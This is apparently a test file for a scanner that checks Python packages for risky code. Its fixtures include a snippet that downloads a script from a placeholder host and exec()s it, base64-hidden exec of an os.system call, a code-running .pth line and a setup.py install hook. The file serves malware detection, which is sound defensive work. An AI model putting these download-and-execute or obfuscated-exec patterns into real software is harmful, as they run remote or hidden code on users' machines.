import { expect, test } from 'vitest'
import { scanBytes } from '../../../../fixtures/scan-bytes'
import { scanPython } from './scan-python'

test('a flow has its way from the source to the sink', () => {
  const scan = scanPython(
    [
      'import requests',
      'def fetch(url):',
      '    return requests.get(url).text',
      'code = fetch("https://x.example.net/a.py")',
      'exec(code)',
    ].join('\n'),
  )
  const fact = scan.facts.find(({ name }) => name === 'flow.network.eval')
  expect(fact?.path?.map(({ role, line }) => [role, line])).toEqual([
    ['source', 3],
    ['sink', 5],
  ])
  expect(fact?.detail?.when).toBe('import')
})

test('says whether importing is enough', () => {
  const inside = scanPython('import os\ndef f():\n    os.system("echo hi")')
  expect(inside.facts.find(({ name }) => name === 'capability.process')?.detail?.when).toBe('call')
})

test('code that is decoded is a member with lines of its own', () => {
  const code = Buffer.from('a = 1\n__import__("os").system("echo hi")').toString('base64')
  const scan = scanPython(`import base64\nexec(base64.b64decode("${code}"))`)
  const fact = scan.facts.find(({ name }) => name === 'hidden.process')
  expect(fact?.location).toMatchObject({ member: 'code 2', line: 2 })
})

test('a .pth file runs the lines that begin with import, and only those', () => {
  const runs = scanPython("import os; exec(\"__import__('os').system('echo hi')\")", 'x.pth')
  expect(runs.names('code')).toContain('hidden.process')
  const paths = scanPython('../src\n/opt/lib (copy)\n', 'x.pth')
  expect([paths.reason, paths.verdict]).toEqual([null, 'clean'])
})

test('the command classes of setup.py are hooks', () => {
  const scan = scanPython(
    [
      'from setuptools import setup',
      'from setuptools.command.install import install',
      'class After(install):',
      '    def run(self):',
      '        install.run(self)',
      'setup(name="a", cmdclass={"install": After})',
    ].join('\n'),
    'setup.py',
  )
  const hook = scan.facts.find(({ kind }) => kind === 'hook')
  expect([hook?.name, hook?.evidence, hook?.detail?.command]).toEqual([
    'hook.python.setup',
    'install: After',
    'install',
  ])
})

test.each([
  ['an unknown codec', '# coding: made-up\nx = 1\n'],
  ['a mark and another cookie', '\ufeff# coding: latin-1\nx = 1\n'],
  ['text that is no Python', 'def f(:\n  return ) 1\n'],
  ['an expression of ten thousand brackets', `x = ${'('.repeat(10_000)}1${')'.repeat(10_000)}\n`],
])('%s is never clean', (_, text) => {
  const scan = scanPython(text)
  expect(scan.status).toBe('inconclusive')
  expect(scan.verdict).toBe('unknown')
})

test('a file beyond the limit is inconclusive', () => {
  const scan = scanPython(`# ${'x'.repeat(5 * 1024 * 1024)}\n`)
  expect(scan.reason).toContain('bytes')
})

test.each([
  ['Latin-1', Buffer.from('# coding: latin-1\nx = "caf\xe9"\n', 'latin1')],
  ['a UTF-8 mark', Buffer.from('\ufeffx = 1\n')],
  ['Windows line ends', Buffer.from('def f():\r\n\treturn 1\r\n')],
])('%s is read', (_, bytes) => {
  const scan = scanBytes(bytes, { name: 'a.py' })
  expect([scan.reason, scan.verdict]).toEqual([null, 'clean'])
})

test.each([
  ["Python 2's print", 'print "a", b\nprint >>f, "x"\n'],
  ['a bare yield', 'def f():\n    (yield)\n'],
  ['numbers that end in a point', 'x = [1., 2.]\ny = 3.e5 + 1.\n'],
  ['a class pattern', 'match x:\n    case a.B():\n        pass\n'],
  ['brackets around with', 'with (open("a") as f, open("b") as g):\n    pass\n'],
  ['several targets of with', 'with open_pair() as (f, g):\n    pass\n'],
])('valid code that the grammar does not know is tolerated: %s', (_, text) => {
  expect(scanPython(text).reason).toBeNull()
})

test('what may be a file beside it is named for whoever joins files, the standard library is not', () => {
  const { facts } = scanPython(
    'import os, helper.deep\nfrom . import near\nfrom ..up.there import x\nfrom torch import nn\n',
  )
  expect(facts.filter(({ name }) => name === 'imports.file').map((one) => one.evidence)).toEqual([
    './helper/deep',
    './near',
    '../up/there',
  ])
})
